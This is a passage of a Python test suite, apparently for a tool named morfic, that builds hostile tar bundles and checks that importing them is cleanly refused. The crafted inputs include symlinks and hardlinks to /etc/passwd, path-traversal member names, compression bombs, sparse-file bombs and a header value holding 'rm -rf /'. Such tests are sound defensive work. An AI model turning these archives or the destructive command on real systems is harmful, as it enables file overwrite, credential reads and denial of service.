"""The hostile-bundle suite: every crafted tar in ``CASES`` is imported into a store that already holds an artifact.

Each case states its expected outcome: ``refused`` (a clean :class:`MorficError` whose message matches, and the
store byte for byte as it was), ``accepted`` (the documented clean skip: folder entries and bytes after the end of
the archive are ignored, a plain tar may list its refs in any order), or ``either`` (variant names: the consent
rules are not this suite's; import must only never import them). Every case then asserts the same invariants:

1. no traceback (any exception but MorficError fails the case) and a message of printable characters only
   (a member name cannot put terminal escapes on the user's screen);
2. nothing written outside the store: the tree of ``tmp_path`` (the store's parent and a sibling folder, the
   working directory, the bundle itself) is unchanged but for the store, and no ``morfic-evil*`` entry appeared
   in ``tmp_path`` or any folder above it;
3. the store verifies and its artifact is intact (ref history, manifest and file bytes: data lost 0);
4. no module named by a bundle was imported (a sentinel module on ``sys.path`` never ran).

So the parametrised results are the counts: cases, clean refusals, clean skips, tracebacks (0), writes outside
(0), data lost (0). The bombs are built from concatenated compressed streams (never expanded here) and must be
refused while streaming, by ``MAX_EXPANSION`` / ``MIN_EXPANDED_BYTES`` (docs/concepts.md).
"""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from crafted_bundles import (
    BLOCK,
    DATA,
    base256,
    file_blocks,
    good_members,
    header_bytes,
    history_bytes,
    listing,
    manifest_bytes,
    member,
    member_header,
    object_name,
    oid_of,
    padded,
    raw_tar,
    stream,
    tree,
    ustar_block,
    write_members,
    zeros_stream,
)

from morfic_cli.errors import MorficError
from morfic_cli.store import Store, transfer

EVIL = "morfic-evil"
KEEP = b"keep,1\n"
SENTINEL = "morfic_hostile_sentinel"
GIB = 1 << 30
MIB = 1 << 20


@dataclass
class World:
    tmp: Path
    root: Path
    keep_history: list
    sentinel_ran: Path


@dataclass
class Case:
    build: Callable[[Path, World], Path]
    expect: str = "refused"  # refused | accepted | either
    match: str = ""
    patch: dict[str, int] = field(default_factory=dict)


# ------------------------------------------------------------------------------------------------ builders


def _good(
    path: Path,
    *extra,
    header: bytes | None = None,
    drop: tuple[str, ...] = (),
    compression: str = "",
    ref: str = "runs/x",
    fmt: int = tarfile.PAX_FORMAT,
) -> Path:
    """A well-formed bundle plus ``extra`` members (appended), its header replaced or some members dropped."""
    members = [m for m in good_members(ref) if m[0].name not in drop]
    if header is not None:
        members = [member("morfic-export.json", header) if m[0].name == "morfic-export.json" else m for m in members]
    suffix = {"": ".tar", "gz": ".tar.gz", "bz2": ".tar.bz2", "xz": ".tar.xz"}[compression]
    return write_members(path.with_suffix(suffix), [*members, *extra], fmt=fmt, compression=compression)


def _good_blocks() -> bytes:
    """The well-formed bundle as raw blocks, truthful headers (no end-of-archive blocks)."""
    return b"".join(file_blocks(info.name, data) for info, data in good_members())


def _header_blocks(objects: int = 1, refs: tuple[str, ...] = ()) -> bytes:
    return file_blocks("morfic-export.json", header_bytes(objects, list(refs)))


def _raw(path: Path, *parts: bytes, end: bool = True) -> Path:
    return raw_tar(path.with_suffix(".tar"), *parts, end=end)


def _bytes(path: Path, data: bytes, suffix: str = ".tar") -> Path:
    out = path.with_suffix(suffix)
    out.write_bytes(data)
    return out


def _link(kind: bytes, name: str, target: str) -> Callable[[Path, World], Path]:
    return lambda p, w: _good(
        p, member(name.replace("<tmp>", str(w.tmp)), kind=kind, linkname=target.replace("<tmp>", str(w.tmp)))
    )


def _named(name: str, data: bytes = b"x", fmt: int = tarfile.PAX_FORMAT) -> Callable[[Path, World], Path]:
    return lambda p, w: _good(p, member(name.replace("<tmp>", str(w.tmp)), data), fmt=fmt)


def _with_header(data: bytes) -> Callable[[Path, World], Path]:
    return lambda p, w: _good(p, header=data)


def _device(kind: bytes, name: str = object_name(b"dev")) -> Callable[[Path, World], Path]:
    def build(p: Path, w: World) -> Path:
        info, _ = member(name, kind=kind)
        info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
        return _good(p, (info, b""))

    return build


def _one_ref(
    manifest: bytes,
    blobs: list[bytes] = (),
    ref: str = "runs/x",
    history: bytes | None = None,
    markers: list[str] | None = None,
    objects: dict[str, bytes] | None = None,
) -> Callable:
    """A bundle of ``manifest`` (indexed) and ``blobs``, with ref ``ref``; ``objects``: member name -> bytes, forged."""

    def build(p: Path, w: World) -> Path:
        objs = {object_name(b): b for b in [*blobs, manifest]} if objects is None else dict(objects)
        marks = [oid_of(manifest)] if markers is None else markers
        members = [member("morfic-export.json", header_bytes(len(objs), [ref]))]
        members += [member(name, data) for name, data in sorted(objs.items())]
        members += [member(f"manifests/{m}") for m in marks]
        members.append(member(f"refs/{ref}", history if history is not None else history_bytes([oid_of(manifest)])))
        return write_members(p.with_suffix(".tar"), members)

    return build


def _report(**fields) -> bytes:
    return manifest_bytes(files={"t.csv": {"id": oid_of(DATA), "size": len(DATA)}}, **fields)


def _history_case(history: bytes) -> Callable:
    return _one_ref(_report(), [DATA], history=history)


def _chained(ids: list[str]) -> bytes:
    from morfic_cli.store.refs import RefEntry, encode_history, next_entry

    entries: list[RefEntry] = []
    for oid in ids:
        entries.append(next_entry(entries, oid, "2025-01-02T03:04:05.000000Z"))
    return encode_history(entries)


def _broken_chain() -> bytes:
    """Two chained versions, the second's ``prev`` one hex digit off."""
    data = bytearray(_chained([oid_of(_report())] * 2))
    at = data.index(b'"prev":"') + len(b'"prev":"')
    data[at] = ord("1") if data[at] != ord("1") else ord("2")
    return bytes(data)


SPARSE_10 = b"22 GNU.sparse.major=1\n22 GNU.sparse.minor=0\n"  # GNU sparse 1.0: the map is in the member's data


def _truncated(compression: str, keep: float) -> Callable:
    def build(p: Path, w: World) -> Path:
        full = _good(p.with_name(p.name + "-full"), compression=compression)
        data = full.read_bytes()
        full.unlink()
        return _bytes(p, data[: int(len(data) * keep)], full.suffix)

    return build


def _flipped(p: Path, w: World) -> Path:
    full = _good(p.with_name(p.name + "-full"), compression="gz")
    data = bytearray(full.read_bytes())
    full.unlink()
    data[len(data) // 3] ^= 0xFF
    return _bytes(p, bytes(data), ".tar.gz")


# -- bombs: concatenated compressed streams; ``zeros_stream`` is compressed once and repeated


def _bomb_one_member(kind: str, name: str, size: int, chunk: int = 16 * MIB, header: bool = True) -> Callable:
    def build(p: Path, w: World) -> Path:
        head = stream(kind, (_header_blocks() if header else b"") + member_header(name, size))
        return _bytes(p, head + zeros_stream(kind, chunk) * (size // chunk), f".tar.{kind}")

    return build


def _bomb_many_members(kind: str, count: int, chunk: int) -> Callable:
    def build(p: Path, w: World) -> Path:
        parts = [stream(kind, _header_blocks(count))]
        for i in range(count):
            oid = hashlib.sha256(b"%d" % i).hexdigest()
            parts += [stream(kind, member_header(f"objects/{oid[:2]}/{oid[2:]}", chunk)), zeros_stream(kind, chunk)]
        return _bytes(p, b"".join(parts), f".tar.{kind}")

    return build


def _bomb_extension(kind: str, typeflag: bytes, name: bytes) -> Callable:
    """A pax extended header or GNU long name of 1 GiB, which tarfile would read whole into memory."""

    def build(p: Path, w: World) -> Path:
        head = stream(kind, _header_blocks() + ustar_block(name, GIB, typeflag=typeflag))
        return _bytes(p, head + zeros_stream(kind, 16 * MIB) * 64, f".tar.{kind}")

    return build


def _sparse_pax(p: Path, w: World) -> Path:
    """A 1 TiB object of holes with one real byte (GNU sparse 0.1 in pax headers), in a plain 3 KiB tar."""
    info, _ = member(
        object_name(b"sparse"), b"", pax={"GNU.sparse.map": f"{(1 << 40) - 1},1", "GNU.sparse.size": str(1 << 40)}
    )
    return write_members(p.with_suffix(".tar"), [member("morfic-export.json", header_bytes(1, [])), (info, b"")])


def _sparse_gnu(p: Path, w: World) -> Path:
    """The same as an old GNU sparse member (type 'S', real size 1 TiB in the header)."""
    fields = {386: base256((1 << 40) - BLOCK) + base256(BLOCK), 483: base256(1 << 40)}
    return _raw(
        p,
        _header_blocks(),
        ustar_block(object_name(b"sparse").encode(), BLOCK, typeflag=b"S", extra=fields),
        bytes(BLOCK),
    )


def _rewinds(compression: str) -> Callable:
    """A bundle whose 40 refs come in reverse order after a 2 MiB object: each ref read seeks backwards."""

    def build(p: Path, w: World) -> Path:
        blob = bytes(2 * MIB)
        manifest = manifest_bytes(files={"z.bin": {"id": oid_of(blob), "size": len(blob)}})
        refs = [f"runs/r{i:02d}" for i in range(40)]
        members = [member("morfic-export.json", header_bytes(2, refs))]
        members += [member(object_name(d), d) for d in sorted([blob, manifest], key=oid_of)]
        members.append(member(f"manifests/{oid_of(manifest)}"))
        members += [member(f"refs/{r}", history_bytes([oid_of(manifest)])) for r in reversed(refs)]
        return write_members(p.with_suffix(".tar.gz" if compression else ".tar"), members, compression=compression)

    return build


def _gnu_loop(compression: str) -> Callable:
    """A member whose size field is -512 (base-256): tarfile reads the same header forever."""

    def build(p: Path, w: World) -> Path:
        data = _header_blocks() + ustar_block(object_name(b"loop").encode(), base256(-BLOCK)) + bytes(2 * BLOCK)
        if compression:
            return _bytes(p, stream(compression, data), f".tar.{compression}")
        return _bytes(p, data)

    return build


def _global_pax(p: Path, w: World) -> Path:
    """A pax global header whose ``path`` renames every following member to an escape."""
    out = p.with_suffix(".tar")
    with tarfile.open(out, "w", format=tarfile.PAX_FORMAT, pax_headers={"path": f"../../{EVIL}"}) as tar:
        for info, data in good_members():
            info.pax_headers = {"comment": "x"}  # a member of its own pax header gets the global keys too
            tar.addfile(info, __import__("io").BytesIO(data) if info.size else None)
    return out


# -- lineage: ids are hashes, so a cycle needs objects filed under ids their bytes do not hash to


def _self_reference(p: Path, w: World) -> Path:
    fake = hashlib.sha256(b"self").hexdigest()
    m = manifest_bytes(inputs={"parent": fake})
    return _one_ref(m, objects={f"objects/{fake[:2]}/{fake[2:]}": m}, markers=[fake], history=history_bytes([fake]))(
        p, w
    )


def _two_cycle(p: Path, w: World) -> Path:
    a, b = hashlib.sha256(b"a").hexdigest(), hashlib.sha256(b"b").hexdigest()
    ma, mb = manifest_bytes(inputs={"parent": b}), manifest_bytes(inputs={"parent": a})
    return _one_ref(
        ma,
        objects={f"objects/{a[:2]}/{a[2:]}": ma, f"objects/{b[:2]}/{b[2:]}": mb},
        markers=[a, b],
        history=history_bytes([a]),
    )(p, w)


def _marker_cycle(p: Path, w: World) -> Path:
    x, y = hashlib.sha256(b"x").hexdigest(), hashlib.sha256(b"y").hexdigest()
    c = manifest_bytes(inputs={"parent": x})
    return _one_ref(c, markers=[oid_of(c), x, y])(p, w)


def _missing_link(p: Path, w: World) -> Path:
    b = manifest_bytes(inputs={"parent": hashlib.sha256(b"gone").hexdigest()})
    a = manifest_bytes(inputs={"parent": oid_of(b)})
    return _one_ref(a, [b], markers=[oid_of(a), oid_of(b)])(p, w)


def _variant(config: dict, meta: dict) -> Callable:
    return _one_ref(manifest_bytes(kind="run", config=config, meta=meta))


def _files(files: dict[str, bytes], kind: str = "media") -> Callable:
    """A bundle of one ``kind`` artifact (ref ``media/evil``) whose manifest names ``files`` (true sizes)."""
    entries = {name: {"id": oid_of(data), "size": len(data)} for name, data in files.items()}
    return _one_ref(manifest_bytes(kind=kind, files=entries), list(dict.fromkeys(files.values())), ref="media/evil")


MODEL = b"not weights: the config is refused before they are read"


def _run(**changes) -> Callable:
    """A bundle of one run's checkpoint (``runs/x``) whose stored config (the smoke preset) has ``changes``."""

    def build(p: Path, w: World) -> Path:
        from crafted_bundles import run_config

        config = run_config(**changes)
        manifest = manifest_bytes(
            kind="checkpoint",
            config=config,
            meta={"variant": "film", "run": "x"},
            files={"model.pt": {"id": oid_of(MODEL), "size": len(MODEL)}},
        )
        return _one_ref(manifest, [MODEL])(p, w)

    return build


REFUSE = (
    "invalid|damaged|truncated|corrupt|incomplete|inconsistent|not a readable|not a morfic export|read it more than"
)
NOT_REGULAR = "not a regular file"
UNEXPECTED = "unexpected member"
BOMB = "compression bomb"
TOO_BIG_HEADER = "tar header of more than"
BAD_HEADER = "invalid morfic-export.json"
FOLDER = "both a ref and a folder of refs"
HIDDEN = "it has the hidden part"
CODE = "a file Python runs or imports from a folder on its path"
ODD = "starts with or holds another character than ASCII letters"
CLASH = "cannot both be files of one folder"
BAD_CONFIG = "is a run's checkpoint with an invalid config"
ALLOW_LIST = b"sentinel_consent:Critic\n# signature: hmac-sha256 " + b"0" * 64 + b"\n"

CASES: dict[str, Case] = {
    # links, devices and other member types
    "link: symlink object to /etc/passwd": Case(
        _link(tarfile.SYMTYPE, object_name(b"l1"), "/etc/passwd"), match=NOT_REGULAR
    ),
    "link: symlink named ../../morfic-evil": Case(
        _link(tarfile.SYMTYPE, f"../../{EVIL}", f"<tmp>/{EVIL}-target"), match=NOT_REGULAR
    ),
    "link: symlink ref to ../../../../morfic-evil": Case(
        _link(tarfile.SYMTYPE, "refs/runs/y", f"../../../../{EVIL}"), match=NOT_REGULAR
    ),
    "link: symlink as the header": Case(
        lambda p, w: write_members(
            p.with_suffix(".tar"),
            [member("morfic-export.json", kind=tarfile.SYMTYPE, linkname="/etc/passwd"), *good_members()[1:]],
        ),
        match=NOT_REGULAR,
    ),
    "link: symlink folder objects/ab -> /": Case(_link(tarfile.SYMTYPE, "objects/ab", "/"), match=NOT_REGULAR),
    "link: absolute symlink to the tmp folder": Case(
        _link(tarfile.SYMTYPE, f"<tmp>/{EVIL}", "<tmp>"), match=NOT_REGULAR
    ),
    "link: hardlink object to /etc/passwd": Case(
        _link(tarfile.LNKTYPE, object_name(b"h1"), "/etc/passwd"), match=NOT_REGULAR
    ),
    "link: hardlink object to the header member": Case(
        _link(tarfile.LNKTYPE, object_name(b"h2"), "morfic-export.json"), match=NOT_REGULAR
    ),
    "link: hardlink ref to ../../morfic-evil": Case(
        _link(tarfile.LNKTYPE, "refs/runs/y", f"../../{EVIL}"), match=NOT_REGULAR
    ),
    "link: hardlink with an absolute name": Case(
        _link(tarfile.LNKTYPE, f"/{EVIL}", "morfic-export.json"), match=NOT_REGULAR
    ),
    "device: character device (1,3) as an object": Case(_device(tarfile.CHRTYPE), match=NOT_REGULAR),
    "device: block device as an object": Case(_device(tarfile.BLKTYPE), match=NOT_REGULAR),
    "device: fifo as an object": Case(_device(tarfile.FIFOTYPE), match=NOT_REGULAR),
    "device: character device named ../../morfic-evil": Case(
        _device(tarfile.CHRTYPE, f"../../{EVIL}"), match=NOT_REGULAR
    ),
    "device: unknown member type 'Z'": Case(_device(b"Z"), match=NOT_REGULAR),
    "device: pax global header renaming every member": Case(_global_pax, match=UNEXPECTED),
    # names that try to leave the store
    "path: ../morfic-evil": Case(_named(f"../{EVIL}"), match=UNEXPECTED),
    "path: ../../../../../../morfic-evil": Case(_named(f"../../../../../../{EVIL}"), match=UNEXPECTED),
    "path: absolute name in the tmp folder": Case(_named(f"<tmp>/{EVIL}"), match=UNEXPECTED),
    "path: absolute /etc/morfic-evil": Case(_named(f"/etc/{EVIL}"), match=UNEXPECTED),
    "path: objects/../../morfic-evil": Case(_named(f"objects/../../{EVIL}"), match=UNEXPECTED),
    "path: objects/ab/../../../morfic-evil": Case(_named(f"objects/ab/../../../{EVIL}"), match=UNEXPECTED),
    "path: ./morfic-export.json alias": Case(
        _named("./morfic-export.json", header_bytes(2, ["runs/x"])), match=UNEXPECTED
    ),
    "path: backslashes ..\\..\\morfic-evil": Case(_named(f"..\\..\\{EVIL}"), match=UNEXPECTED),
    "path: drive letter C:\\morfic-evil": Case(_named(f"C:\\{EVIL}"), match=UNEXPECTED),
    "path: drive letter C:/morfic-evil": Case(_named(f"C:/{EVIL}"), match=UNEXPECTED),
    "path: GNU long name ending in ../../../morfic-evil": Case(
        _named("objects/" + "x" * 100 + f"/../../../{EVIL}", fmt=tarfile.GNU_FORMAT), match=UNEXPECTED
    ),
    "path: double slash objects//ab": Case(_named("objects//" + object_name(b"d")[8:]), match=UNEXPECTED),
    # refs that try to escape or collide
    "ref: member refs/../../morfic-evil": Case(
        _named(f"refs/../../{EVIL}", history_bytes([oid_of(b"r")])), match=UNEXPECTED
    ),
    "ref: member refs//etc/morfic-evil": Case(_named(f"refs//etc/{EVIL}"), match=UNEXPECTED),
    "ref: member refs/<absolute tmp path>": Case(_named(f"refs/<tmp>/{EVIL}"), match=UNEXPECTED),
    "ref: member refs/runs/x/..": Case(_named("refs/runs/x/.."), match=UNEXPECTED),
    "ref: member refs/runs/./x": Case(_named("refs/runs/./x"), match=UNEXPECTED),
    "ref: member refs/runs/x@2": Case(_named("refs/runs/x@2"), match=UNEXPECTED),
    "ref: header names ../morfic-evil": Case(_with_header(header_bytes(2, ["runs/x", f"../{EVIL}"])), match=BAD_HEADER),
    "ref: header names /etc/morfic-evil": Case(
        _with_header(header_bytes(2, ["runs/x", f"/etc/{EVIL}"])), match=BAD_HEADER
    ),
    "ref: header names refs/../../x": Case(_with_header(header_bytes(2, ["runs/x", "refs/../../x"])), match=BAD_HEADER),
    "ref: runs/x and runs/x/y in one bundle": Case(
        lambda p, w: _good(
            p,
            member("refs/runs/x/y", history_bytes([oid_of(_report())])),
            header=header_bytes(2, ["runs/x", "runs/x/y"]),
        ),
        match=FOLDER,
    ),
    "ref: runs/keep/y under the local ref runs/keep": Case(lambda p, w: _good(p, ref="runs/keep/y"), match=FOLDER),
    "ref: runs over the local folder runs/": Case(lambda p, w: _good(p, ref="runs"), match=FOLDER),
    "ref: diverges from the local runs/keep": Case(lambda p, w: _good(p, ref="runs/keep"), match="diverged"),
    # duplicate members
    "dup: an object twice, same bytes": Case(
        lambda p, w: _good(p, member(object_name(DATA), DATA)), match="appears twice"
    ),
    "dup: an object twice, other bytes": Case(
        lambda p, w: _good(p, member(object_name(DATA), b"other")), match="appears twice"
    ),
    "dup: the header twice, the second lying": Case(
        lambda p, w: _good(p, member("morfic-export.json", header_bytes(99, ["runs/ghost"]))), match="appears twice"
    ),
    "dup: a ref twice, other histories": Case(
        lambda p, w: _good(p, member("refs/runs/x", history_bytes([oid_of(b"elsewhere")]))), match="appears twice"
    ),
    "dup: an index marker twice": Case(
        lambda p, w: _good(p, member(f"manifests/{oid_of(_report())}")), match="appears twice"
    ),
    "dup: NUL cuts a ustar name into the header's": Case(
        lambda p, w: _raw(
            p, _good_blocks(), ustar_block(b"morfic-export.json\0../../" + EVIL.encode(), 2), padded(b"{}")
        ),
        match="appears twice",
    ),
    # size fields that lie, truncated and damaged tars
    "size: data longer than the size field": Case(
        lambda p, w: _raw(p, _header_blocks(1), ustar_block(object_name(DATA).encode(), 4), padded(DATA * 200)),
        match=REFUSE,
    ),
    "size: size field past the end of the file": Case(
        lambda p, w: _raw(p, _header_blocks(1), ustar_block(object_name(DATA).encode(), MIB), padded(DATA), end=False),
        match=REFUSE,
    ),
    "size: size field swallows the next members": Case(
        lambda p, w: _raw(
            p,
            _header_blocks(1, ("runs/x",)),
            ustar_block(object_name(DATA).encode(), len(DATA) + 2 * BLOCK),
            padded(DATA),
            file_blocks("refs/runs/x", history_bytes([oid_of(DATA)])),
        ),
        match=REFUSE,
    ),
    "size: size field not octal": Case(
        lambda p, w: _raw(
            p, _header_blocks(1), ustar_block(object_name(DATA).encode(), b"zzzzzzzzzzz\0"), padded(DATA)
        ),
        match=REFUSE,
    ),
    "size: size field 2**80 (base-256)": Case(
        lambda p, w: _raw(
            p, _header_blocks(1), ustar_block(object_name(DATA).encode(), base256(1 << 80)), padded(DATA)
        ),
        match=REFUSE,
    ),
    "size: size field -512 loops (plain)": Case(_gnu_loop(""), match="points backwards"),
    "size: size field -512 loops (gzip)": Case(_gnu_loop("gz"), match="points backwards"),
    "size: size field -4096 points before the archive": Case(
        lambda p, w: _raw(p, _header_blocks(1), ustar_block(object_name(DATA).encode(), base256(-4096))), match=REFUSE
    ),
    "size: bad checksum on the first header": Case(
        lambda p, w: _raw(p, ustar_block(b"morfic-export.json", 2, checksum=False), padded(b"{}")), match=REFUSE
    ),
    "size: bad checksum on a later header": Case(
        lambda p, w: _raw(
            p, _good_blocks()[: -2 * BLOCK], ustar_block(b"refs/runs/x", 10, checksum=False), padded(b"x" * 10)
        ),
        match=REFUSE,
    ),
    "size: pax size smaller than the data": Case(
        lambda p, w: _good(p, member(object_name(DATA), DATA * 100, pax={"size": "5"}), drop=(object_name(DATA),)),
        match=REFUSE,
    ),
    "size: malformed pax record": Case(
        lambda p, w: _raw(
            p,
            _header_blocks(),
            ustar_block(b"././@PaxHeader", 24, typeflag=b"x"),
            padded(b"99 path=../../" + EVIL.encode() + b"\n"),
            file_blocks("x", b"x"),
        ),
        match=REFUSE,
    ),
    "size: bad GNU sparse 1.0 map": Case(
        lambda p, w: _raw(  # tarfile raised ValueError (int("not-a-number"))
            p,
            _header_blocks(),
            ustar_block(b"././@PaxHeader", len(SPARSE_10), typeflag=b"x"),
            padded(SPARSE_10),
            ustar_block(object_name(b"s").encode(), BLOCK),
            padded(b"not-a-number\n"),
        ),
        match=REFUSE,
    ),
    "trunc: cut inside a header": Case(lambda p, w: _bytes(p, _good_blocks()[: 2 * BLOCK + 100]), match=REFUSE),
    "trunc: cut inside an object": Case(
        lambda p, w: _bytes(p, b"".join(file_blocks(i.name, d) for i, d in good_members())[: 3 * BLOCK + 5]),
        match=REFUSE,
    ),
    "trunc: empty file": Case(lambda p, w: _bytes(p, b""), match=REFUSE),
    "trunc: only the end-of-archive blocks": Case(
        lambda p, w: _bytes(p, bytes(2 * BLOCK)), match="not a morfic export|not a readable"
    ),
    "trunc: gzip cut in half": Case(_truncated("gz", 0.5), match=REFUSE),
    "trunc: bzip2 cut in half": Case(_truncated("bz2", 0.5), match=REFUSE),
    "trunc: xz cut in half": Case(_truncated("xz", 0.5), match=REFUSE),
    "trunc: gzip with a flipped byte": Case(_flipped, match=REFUSE + "|CRC|error while reading"),
    "trunc: random bytes": Case(lambda p, w: _bytes(p, hashlib.sha512(b"noise").digest() * 64), match=REFUSE),
    "trunc: a zip file": Case(lambda p, w: _bytes(p, b"PK\x03\x04" + bytes(200), ".zip"), match=REFUSE),
    "trunc: gzip of plain text": Case(lambda p, w: _bytes(p, stream("gz", b"hello\n" * 100), ".tar.gz"), match=REFUSE),
    # compression bombs and other expansions (refused while streaming; nothing is expanded in memory or on disk)
    "bomb: gzip, one 4 GiB object (4 MiB file)": Case(_bomb_one_member("gz", object_name(b"b1"), 4 * GIB), match=BOMB),
    "bomb: bzip2, one 16 GiB object (46 KiB file)": Case(
        _bomb_one_member("bz2", object_name(b"b2"), 16 * GIB), match=BOMB
    ),
    "bomb: xz, one 16 GiB object (2.6 MiB file)": Case(
        _bomb_one_member("xz", object_name(b"b3"), 16 * GIB), match=BOMB
    ),
    "bomb: gzip, 2048 objects of 1 MiB": Case(_bomb_many_members("gz", 2048, MIB), match=BOMB),
    "bomb: bzip2, 4096 objects of 4 MiB (16 GiB)": Case(_bomb_many_members("bz2", 4096, 4 * MIB), match=BOMB),
    "bomb: xz, 512 objects of 16 MiB (8 GiB)": Case(_bomb_many_members("xz", 512, 16 * MIB), match=BOMB),
    "bomb: gzip, a 4 GiB header member": Case(
        _bomb_one_member("gz", "morfic-export.json", 4 * GIB, header=False), match=BOMB
    ),
    "bomb: gzip, a 1 GiB pax extended header": Case(
        _bomb_extension("gz", b"x", b"././@PaxHeader"), match=TOO_BIG_HEADER
    ),
    "bomb: bzip2, a 1 GiB GNU long name": Case(_bomb_extension("bz2", b"L", b"././@LongLink"), match=TOO_BIG_HEADER),
    "bomb: plain tar, 1 TiB sparse object (pax 0.1)": Case(_sparse_pax, match="sparse"),
    "bomb: plain tar, 1 TiB sparse object (old GNU 'S')": Case(_sparse_gnu, match="sparse"),
    "bomb: gzip, 40 refs in reverse order rewind the stream": Case(
        _rewinds("gz"), match="read it more than", patch={"MIN_EXPANDED_BYTES": 4 * MIB}
    ),
    # objects and index markers
    "object: bytes do not hash to the id": Case(
        lambda p, w: _raw(p, _header_blocks(1), file_blocks(object_name(b"claimed"), b"actual")), match="corrupt"
    ),
    "object: the local object's id with other bytes": Case(
        lambda p, w: _raw(p, _header_blocks(1), file_blocks(object_name(KEEP), KEEP.upper())), match="corrupt"
    ),
    "object: uppercase id": Case(_named(object_name(b"u").upper().replace("OBJECTS", "objects")), match=UNEXPECTED),
    "object: short id": Case(_named(object_name(b"s")[:-2]), match=UNEXPECTED),
    "object: wrong fan-out folder": Case(
        _named("objects/" + oid_of(b"f")[:3] + "/" + oid_of(b"f")[3:]), match=UNEXPECTED
    ),
    "object: nested one folder deeper": Case(_named("objects/ab/cd/" + oid_of(b"n")[4:]), match=UNEXPECTED),
    "object: index marker with bytes": Case(
        lambda p, w: _good(p, member(f"manifests/{oid_of(_report())}", b"x"), drop=(f"manifests/{oid_of(_report())}",)),
        match="not empty",
    ),
    "object: index marker for a blob": Case(
        _one_ref(_report(), [DATA], markers=[oid_of(_report()), oid_of(DATA)]), match="invalid|not JSON|manifest"
    ),
    "object: index marker for an absent id": Case(
        _one_ref(_report(), [DATA], markers=[oid_of(_report()), oid_of(b"absent")]), match="does not contain"
    ),
    "object: index marker name not an id": Case(_named("manifests/../../" + EVIL, b""), match=UNEXPECTED),
    "object: manifest over the size limit": Case(
        _one_ref(manifest_bytes(meta={"pad": "x" * (16 * MIB)})), match="more than"
    ),
    # manifests
    "manifest: names a missing object": Case(_one_ref(_report()), match="incomplete"),
    "manifest: declares the wrong size": Case(
        _one_ref(manifest_bytes(files={"t.csv": {"id": oid_of(DATA), "size": 999}}), [DATA]), match="declares"
    ),
    "manifest: input missing": Case(_one_ref(manifest_bytes(inputs={"parent": oid_of(b"gone")})), match="incomplete"),
    "manifest: input is a blob": Case(
        _one_ref(manifest_bytes(inputs={"parent": oid_of(DATA)}), [DATA]), match="incomplete|not a manifest"
    ),
    "manifest: file name ../../morfic-evil": Case(
        _one_ref(manifest_bytes(files={f"../../{EVIL}": {"id": oid_of(DATA), "size": len(DATA)}}), [DATA]),
        match="file name",
    ),
    "manifest: absolute file name": Case(
        lambda p, w: _one_ref(
            manifest_bytes(files={f"{w.tmp}/{EVIL}": {"id": oid_of(DATA), "size": len(DATA)}}), [DATA]
        )(p, w),
        match="file name",
    ),
    "manifest: NUL in a file name": Case(
        _one_ref(manifest_bytes(files={"a\x00b": {"id": oid_of(DATA), "size": len(DATA)}}), [DATA]), match="file name"
    ),
    "manifest: not JSON": Case(_one_ref(b"{not json"), match="not a manifest|invalid|JSON"),
    # refs
    "ref: points at a missing manifest": Case(
        _history_case(history_bytes([oid_of(b"missing")])), match="not a manifest in the export"
    ),
    "ref: points at a blob": Case(_history_case(history_bytes([oid_of(DATA)])), match="not a manifest"),
    "ref: points at an object without index marker": Case(
        lambda p, w: _one_ref(
            _report(),
            [DATA, manifest_bytes(kind="table")],
            history=history_bytes([oid_of(manifest_bytes(kind="table"))]),
        )(p, w),
        match="not a manifest",
    ),
    "ref: history is garbage": Case(_history_case(b"\x89PNG garbage\n"), match="damaged"),
    "ref: history nested 100000 deep": Case(_history_case(b"[" * 100000 + b"]" * 100000 + b"\n"), match="damaged"),
    "ref: history with NUL bytes": Case(
        _history_case(history_bytes([oid_of(_report())]).replace(b"{", b"{\0", 1)), match="damaged"
    ),
    "ref: history chain broken": Case(lambda p, w: _history_case(_broken_chain())(p, w), match="damaged"),
    "ref: history versions 1, 3": Case(
        _history_case(history_bytes([oid_of(_report())] * 2).replace(b'"version":2', b'"version":3')), match="damaged"
    ),
    "ref: empty history": Case(_history_case(b""), match="empty history"),
    "ref: history over 16 MiB": Case(
        _history_case(history_bytes([oid_of(_report())]) * (17 * MIB // 100)), match="more than"
    ),
    # lineage
    "lineage: a manifest that is its own input": Case(_self_reference, match="corrupt"),
    "lineage: two manifests each other's input": Case(_two_cycle, match="corrupt"),
    "lineage: a cycle of index markers without objects": Case(_marker_cycle, match="does not contain"),
    "lineage: a chain with a missing link": Case(_missing_link, match="incomplete"),
    # the header
    "header: missing": Case(lambda p, w: _good(p, drop=("morfic-export.json",)), match="no morfic-export.json"),
    "header: not JSON": Case(_with_header(b"{nope"), match=BAD_HEADER),
    "header: a JSON list": Case(_with_header(b"[1, 2]"), match=BAD_HEADER),
    "header: nested 100000 deep": Case(_with_header(b"[" * 100000 + b"]" * 100000), match=BAD_HEADER),
    "header: 17 MiB": Case(_with_header(header_bytes(2, ["runs/x"]) + b" " * (17 * MIB)), match="more than"),
    "header: counts too many objects": Case(_with_header(header_bytes(3, ["runs/x"])), match="incomplete"),
    "header: counts too few objects": Case(_with_header(header_bytes(1, ["runs/x"])), match="incomplete"),
    "header: lists a ref it lacks": Case(_with_header(header_bytes(2, ["runs/x", "runs/ghost"])), match="inconsistent"),
    "header: lacks a ref it holds": Case(_with_header(header_bytes(2, [])), match="inconsistent"),
    "header: format 2": Case(
        _with_header(b'{"format": 2, "morfic_version": "9", "objects": 2, "refs": ["runs/x"]}'), match=BAD_HEADER
    ),
    "header: format true": Case(
        _with_header(b'{"format": true, "morfic_version": "9", "objects": 2, "refs": ["runs/x"]}'), match=BAD_HEADER
    ),
    "header: unknown key": Case(_with_header(header_bytes(2, ["runs/x"], run="rm -rf /")), match=BAD_HEADER),
    "header: negative object count": Case(_with_header(header_bytes(-1, ["runs/x"])), match=BAD_HEADER),
    "header: NaN object count": Case(
        _with_header(b'{"format": 1, "morfic_version": "9", "objects": NaN, "refs": ["runs/x"]}'), match=BAD_HEADER
    ),
    "header: non-UTF-8 bytes": Case(
        _with_header(b'{"format": 1, "morfic_version": "\xff\xfe", "objects": 2, "refs": ["runs/x"]}'), match=BAD_HEADER
    ),
    "header: NUL byte": Case(_with_header(b'{"format": 1,\0 "objects": 2}'), match=BAD_HEADER),
    "header: leaves out a model as a trainer state": Case(
        _with_header(header_bytes(2, ["runs/x"], omitted={oid_of(b"w"): "model"})), match="may only leave out"
    ),
    # names
    "name: non-UTF-8 bytes": Case(
